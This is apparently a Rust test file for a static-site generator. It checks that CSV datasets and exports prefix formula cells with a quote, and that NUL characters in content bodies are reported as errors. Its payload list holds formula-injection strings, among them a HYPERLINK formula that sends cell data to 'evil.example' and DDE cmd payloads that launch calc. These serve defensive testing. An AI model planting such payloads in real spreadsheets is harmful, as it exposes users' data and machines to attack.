//! Spreadsheet formula injection: no CSV cell the site or `export` writes
//! starts a formula.

use crate::support::*;

/// Cells a contributor can write that a spreadsheet would run.
const PAYLOADS: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

fn hostile_site() -> Site {
    let s = Site::minimal();
    for (i, p) in PAYLOADS.iter().enumerate() {
        let yaml = serde_json::to_string(p).expect("json string");
        // A one-line field holds no tab (`check` refuses one): the tab
        // payload comes through the summary and the body.
        let title = if p.contains('\t') { format!("\"Tab {i}\"") } else { yaml.clone() };
        s.write(
            &format!("content/practices/p{i}.yaml"),
            &format!("title: {title}\nsummary: {yaml}\narea: customs\nstaff: -5\nbody: {yaml}\n"),
        );
    }
    s
}

/// Every cell of `text` is safe, and each payload is there with a `'` before it.
fn assert_defused(text: &str) {
    let mut rdr = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    let mut cells = Vec::new();
    for row in rdr.records() {
        cells.extend(row.expect("row").iter().map(str::to_owned));
    }
    for c in &cells {
        let number = c.trim_start_matches(['-', '+']).parse::<f64>().is_ok();
        assert!(number || !c.starts_with(['=', '+', '-', '@', '\t', '\r']), "formula cell {c:?}");
    }
    for p in PAYLOADS {
        assert!(cells.iter().any(|c| *c == format!("'{p}")), "{p:?} missing");
    }
    // Negative numbers stay numbers.
    assert!(cells.iter().any(|c| c == "-5"));
    // Every cell is quoted, as OWASP advises.
    assert!(text.starts_with("\"key\","), "{}", &text[..text.len().min(40)]);
}

#[test]
fn site_datasets_and_export_defuse_formulas() {
    let s = hostile_site();
    let r = s.run(&["build"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_defused(&s.read("site/data/practices.csv"));
    let e = s.run(&["export", "--format", "csv"]);
    assert_eq!(e.code, 0, "{}", e.stderr);
    assert_defused(&e.stdout);
    // JSON is data, not a spreadsheet: values stay exactly as written.
    let j = s.run(&["export", "--format", "json"]);
    assert!(j.stdout.contains("\"=HYPERLINK("), "{}", j.stdout);
}

/// A NUL in a body reached data/*.csv raw; it is an error at its line and
/// column, in a Markdown body as in a YAML record's `body`.
#[test]
fn a_nul_in_a_body_is_an_error_at_it() {
    let s = Site::minimal();
    s.write_bytes(
        "content/practices/nul.md",
        b"---\ntitle: NUL\nsummary: s.\narea: customs\n---\n\nBody\nwith a \0 inside.\n",
    );
    s.write("content/practices/y.yaml", "title: Y\nsummary: s.\narea: customs\nbody: \"a\\0b\"\n");
    let r = s.run(&["check"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    for at in ["content/practices/nul.md:8:8", "content/practices/y.yaml:4:7"] {
        assert!(
            r.stderr.contains(&format!("{at}: error: the body holds U+0000, a NUL character")),
            "{at}: {}",
            r.stderr
        );
    }
    assert_eq!(s.run(&["build"]).code, 1);
}
